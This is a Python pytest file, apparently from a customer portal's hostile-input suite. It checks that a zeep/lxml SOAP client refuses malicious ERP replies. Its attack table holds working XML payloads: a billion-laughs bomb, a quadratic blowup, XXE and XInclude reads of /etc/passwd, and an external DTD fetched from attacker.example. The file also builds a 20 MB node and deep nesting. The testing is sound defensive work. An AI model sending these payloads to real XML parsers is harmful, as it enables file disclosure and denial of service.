"""Hostile XML from a SOAP ERP: entity declarations, the billion-laughs bomb, external entities reaching for a
local file or the network, XInclude, a 20 MB text node, nesting too deep. The real SoapBilling (zeep over
lxml, strict settings) sits behind the breakers and the cache; every reply is refused, nothing is expanded,
fetched or kept."""

from __future__ import annotations

import logging
import re

import pytest

from tests.hostile.checks import assert_safe, timed
from tests.hostile.erp import SOAP_XML

pytestmark = pytest.mark.sqlite_only(reason="the SOAP reply's parser; the portal's database plays no part")

NAME = "Jan Kowalski"
PROLOGUE = re.compile(rb"^\s*<\?xml[^>]*\?>\s*")
LOL = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
# (DOCTYPE placed before the envelope, what replaces the customer's name, text that must never show)
ATTACKS = {
    "entity declaration": ('<!DOCTYPE soap:Envelope [<!ENTITY who "Wstrzyknięty Klient">]>', "&who;",
                           "Wstrzyknięty Klient"),
    "billion laughs": (f'<!DOCTYPE soap:Envelope [<!ENTITY lol0 "lol">{LOL}]>', "&lol9;", "lollollol"),
    "quadratic blowup": (f'<!DOCTYPE soap:Envelope [<!ENTITY a "{"A" * 50_000}">]>', "&a;" * 5_000, "AAAAAAAA"),
    "external entity, local file": ('<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                                    "&xxe;", "root:"),
    "external parameter entity": ('<!DOCTYPE soap:Envelope [<!ENTITY % xxe SYSTEM "file:///etc/passwd"> %xxe;]>',
                                  NAME, "root:"),
    "external DTD over the network": ('<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/evil.dtd">', NAME,
                                      "attacker.example"),
    "XInclude of a local file": ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                     'href="file:///etc/passwd" parse="text"/>', "root:"),
}


DTD = "reply declares a DTD, entities or external references"
# How each reply is refused: libxml2 stops the bombs itself (entity amplification), zeep's forbid_dtd the
# rest, the schema an XInclude element where text belongs; none is ever expanded or followed.
ATTACK_REFUSED_AS = {
    "entity declaration": DTD, "billion laughs": "not well-formed XML", "quadratic blowup": "not well-formed XML",
    "external entity, local file": DTD, "external parameter entity": DTD, "external DTD over the network": DTD,
    "XInclude of a local file": "fullName: Not a valid string",
}


def with_doctype(doctype: str, name: str):
    """The simulator's real reply, the name swapped for `name`, the DOCTYPE put in front."""

    def spoil(original: bytes) -> tuple[int, str, bytes]:
        envelope = PROLOGUE.sub(b"", original).replace(NAME.encode(), name.encode())
        return 200, SOAP_XML, b'<?xml version="1.0" encoding="utf-8"?>\n' + doctype.encode() + b"\n" + envelope

    return spoil


def assert_nothing_kept(portal, url: str, expected: str, never: tuple[str, ...]) -> None:
    """With the ERP down the page shows no trace of the hostile reply; once it is back, the real data."""
    portal.plan.clear()
    portal.plan.set("*", "status_503")
    down = portal.client.get(url).get_data(as_text=True)
    assert not any(marker in down for marker in never)
    portal.plan.clear()
    page = portal.client.get(url).get_data(as_text=True)
    assert expected in page and not any(marker in page for marker in never)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_hostile_xml_is_refused_unexpanded_and_not_kept(portal, logs, attack):
    doctype, name, marker = ATTACKS[attack]
    erp = portal("soap")
    erp.plan.replace("get_customer", with_doctype(doctype, name))
    result = timed(erp.client.get, "/")
    assert_safe(result, logs, limit=2.0, log_level=logging.WARNING, never=(marker,), statuses=(200,))
    assert "Państwa dane – nie można wyświetlić z powodu błędu po stronie systemu rozliczeniowego" in result.page
    assert ATTACK_REFUSED_AS[attack] in logs.text()
    assert_nothing_kept(erp, "/", NAME, (marker,))


def test_a_20_mb_text_node_is_refused_by_the_parser(portal, logs):
    erp = portal("soap")
    erp.plan.replace("get_customer", with_doctype("", "A" * 20_000_000))
    result = timed(erp.client.get, "/")
    assert_safe(result, logs, limit=4.0, log_level=logging.WARNING, never=("AAAAAAAAAA",), statuses=(200,))
    assert "not well-formed XML" in logs.text()
    assert_nothing_kept(erp, "/", NAME, ("AAAAAAAAAA",))


def test_nesting_deeper_than_the_parser_allows_is_refused(portal, logs):
    erp = portal("soap")
    deep = "<erp:x>" * 5_000 + "</erp:x>" * 5_000
    erp.plan.replace("list_invoices", lambda original: (200, SOAP_XML, original.replace(
        b"<erp:invoiceNumber>", deep.encode() + b"<erp:invoiceNumber>", 1)))
    result = timed(erp.client.get, "/invoices/")
    assert_safe(result, logs, limit=2.0, log_level=logging.WARNING, statuses=(502,))
    assert_nothing_kept(erp, "/invoices/", "FV/00117/11/2026", ())
